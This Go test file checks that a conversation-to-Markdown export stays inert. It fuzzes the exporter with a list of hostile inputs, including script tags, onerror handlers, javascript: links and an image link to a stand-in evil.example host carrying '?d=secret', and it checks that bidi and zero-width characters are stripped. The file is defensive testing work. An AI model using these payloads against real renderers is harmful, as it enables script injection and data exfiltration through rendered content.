package conversations_test

import (
	"bytes"
	"flag"
	stdhtml "html"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"
	"github.com/yuin/goldmark/text"

	"github.com/resync-hwa/resync/agentsvc/conversations"
	"github.com/resync-hwa/resync/agentsvc/conversations/conversationstest"
	"github.com/resync-hwa/resync/twstools/answer"
)

var update = flag.Bool("update", false, "rewrite the exports in testdata")

// exported is a conversation with one turn of everything.
func exported(language string) conversations.Conversation {
	at := time.Date(2026, 3, 17, 8, 40, 0, 0, time.UTC)
	one := conversationstest.TurnOf("m1", "Why did PAY_LOAD abend?\nIt ran yesterday.", "`PAY_LOAD` ended ABEND: the **account** of PAYEXT[(0200 03/17/26)].PAY_LOAD is locked.\n\n- first\n- second", at)
	one.Language = language
	one.Answer.Diagnosis.Chain = []answer.Hop{{Entity: "A#B.C", Status: "HOLD", Why: "sched.dep.predecessor", BlockedBy: "A#B.D"}}
	one.Answer.Diagnosis.Actions = []answer.Action{{Code: "rerun", Text: "Rerun it once the account is open.", Command: "rerun LXPAY01#0AAAAAAAAAAAACQ3T.PAY_LOAD;schedid",
		Preconditions: []answer.Precondition{{Text: "agent linked", Met: "yes"}, {Text: "account open", Met: "?"}}, WayBack: "none"}}
	one.Answer.Diagnosis.Missing = []string{"history:PAY_LOAD no earlier runs"}
	two := conversationstest.TurnOf("m2", "and now?", "Nothing.", at.Add(time.Minute))
	two.Stopped, two.Replaces, two.Answer.Diagnosis, two.Answer.Citations, two.Answer.Stale = true, "m0", nil, nil, true
	two.Answer.Errors = []answer.Error{{Code: "timeout", Message: "The question was stopped."}}
	return conversations.Conversation{ID: "c1", Title: "Why did PAY_LOAD abend?", Created: at, Updated: two.At, Turns: []conversations.Turn{one, two}}
}

func TestExport(t *testing.T) {
	for name, c := range map[string]conversations.Conversation{"export.en.md": exported("en"), "export.pt.md": exported("pt"), "export.empty.md": {Created: exported("en").Created, Updated: exported("en").Created}} {
		path, got := filepath.Join("testdata", name), c.Markdown()
		if *update {
			if err := os.WriteFile(path, []byte(got), 0o644); err != nil { //nolint:gosec // a file to read
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(path)
		if err != nil || got != string(want) {
			t.Errorf("%s differs; run: go test ./agentsvc/conversations -run TestExport -update\n%s", name, got)
		}
	}
}

var hostile = []string{
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[click](https://evil.example/x)", "![x](https://evil.example/p.png?d=secret)", "[a]: https://evil.example\n[a]", "[a][b]\n\n[b]: //evil.example",
	"https://evil.example", "www.evil.example", "x@evil.example", "<https://evil.example>", "\\<b>", "\\\\<b>", "`<b>", "``<b>`", "` https://evil.example ``", "a\\`https://evil.example`", "```\n<b>\n", "~~~\n# x", "# heading", "===\n", "a\n===",
	"> q", "    <b>", "\t<b>", "&lt;b&gt;", "&#60;b>", "[x](\njavascript:alert(1))", "[x]\n(https://evil.example)", "[![a](b)](c)", "| a | b |\n|---|---|\n| <b> | x |", "mailto:a@evil.example", "xmpp:a@evil.example", "ftp://evil.example",
	"(https://evil.example)", "*[x](y)*", "[x]( <y> )", "[^1]: https://evil.example", "- [ ] <b>", "1. <b>", "<!-- -->", "<?php ?>", "a`b`c<i>`d`", "\x00<b>", "\xff[x](y)", "[x]\\(y)", "[x](y", "$x$<b>", "\u2028<b>", "\u00a0https://evil.example", "HTTPS:/\\evil.example", "[\u200b](x)", "a\r\n\r<b>",
}

// What begins a line shows as it was written: it is escaped once. Marks that turn text around, or that nobody sees, are left out.
func TestExportShowsWhatWasWritten(t *testing.T) {
	for in, want := range map[string]string{
		"# Injected":                 "# Injected",
		"> quoted":                   "> quoted",
		"words\n---":                 "words\n---",
		"words\n-":                   "words\n-",
		"- one\n- two":               "one",
		"safe \u202egnp.exe\u202c x": "safe gnp.exe x",
		"a\u200bb `rr\u2066 JOB`":    "ab rr JOB",
	} {
		c := exported("en")
		c.Title = in
		for i := range c.Turns {
			c.Turns[i].Question, c.Turns[i].Answer.Answer = in, in
		}
		var out bytes.Buffer
		if err := gfm.Convert([]byte(c.Markdown()), &out); err != nil {
			t.Fatal(err)
		}
		shown := stdhtml.UnescapeString(allowed.ReplaceAllString(out.String(), ""))
		if !strings.Contains(shown, want) || strings.Contains(shown, "&#") || strings.ContainsAny(shown, "\u202e\u202c\u200b\u2066") {
			t.Errorf("%q shows as\n%s", in, shown)
		}
		checkInert(t, in)
	}
}

// Whatever stands in a conversation, the export has no HTML, no link, no picture, and no heading but its own.
func TestExportIsInert(t *testing.T) {
	for i, s := range hostile {
		checkInert(t, s)
		for _, other := range hostile[i+1 : min(len(hostile), i+4)] {
			checkInert(t, s+other)
			checkInert(t, other+"`"+s+"\n"+other)
		}
	}
}

func FuzzExportIsInert(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { checkInert(t, s) })
}

var gfm = goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote), goldmark.WithRendererOptions(html.WithUnsafe()))

// allowed is what emphasis, lists, boxes to tick and tables become.
var allowed = regexp.MustCompile(`</?(?:h[123]|p|em|strong|code|blockquote|ul|ol|li|hr|br|del|pre|table|thead|tbody|tr|th|td)(?: start="\d+")?(?: style="text-align:[a-z]+")?(?: /)?>|<input (?:checked="" )?disabled="" type="checkbox">`)

func checkInert(t *testing.T, s string) {
	t.Helper()
	c := exported("en")
	c.Title = s
	for i := range c.Turns {
		turn := &c.Turns[i]
		turn.Question, turn.Answer.Answer, turn.Answer.Model = s, s, s
		turn.Answer.Errors = []answer.Error{{Code: s, Message: s}}
		turn.Answer.Citations = []answer.Citation{{Source: s, Title: s, Quote: s}}
		if d := turn.Answer.Diagnosis; d != nil {
			d.Verdict, d.Missing = answer.Verdict(s), []string{s}
			d.Causes[0].Entity, d.Causes[0].Kind, d.Causes[0].Statement, d.Causes[0].Evidence = s, s, s, []answer.Evidence{{Source: s, Quote: s}}
			d.Explanations = []answer.Explanation{{Entity: s, Statement: s, Evidence: d.Causes[0].Evidence}}
			d.Chain[0] = answer.Hop{Entity: s, Status: s, Why: s, BlockedBy: s}
			d.Actions[0] = answer.Action{Text: s, Command: s, WayBack: s, Preconditions: []answer.Precondition{{Text: s, Met: s}}}
		}
	}
	source := []byte(c.Markdown())
	headings := 0
	err := ast.Walk(gfm.Parser().Parse(text.NewReader(source)), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n.Kind() {
		case ast.KindLink, ast.KindAutoLink, ast.KindImage, ast.KindHTMLBlock, ast.KindRawHTML, ast.KindFencedCodeBlock:
			t.Errorf("%q gives a %s in\n%s", s, n.Kind(), source)
		case ast.KindHeading:
			headings++
		}
		return ast.WalkContinue, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if headings != 11 {
		t.Errorf("%q: %d headings in\n%s", s, headings, source)
	}
	var out bytes.Buffer
	if err := gfm.Convert(source, &out); err != nil {
		t.Fatal(err)
	}
	if rest := allowed.ReplaceAllString(out.String(), ""); strings.Contains(rest, "<") {
		t.Errorf("%q: HTML\n%s\nof\n%s", s, rest, source)
	}
}
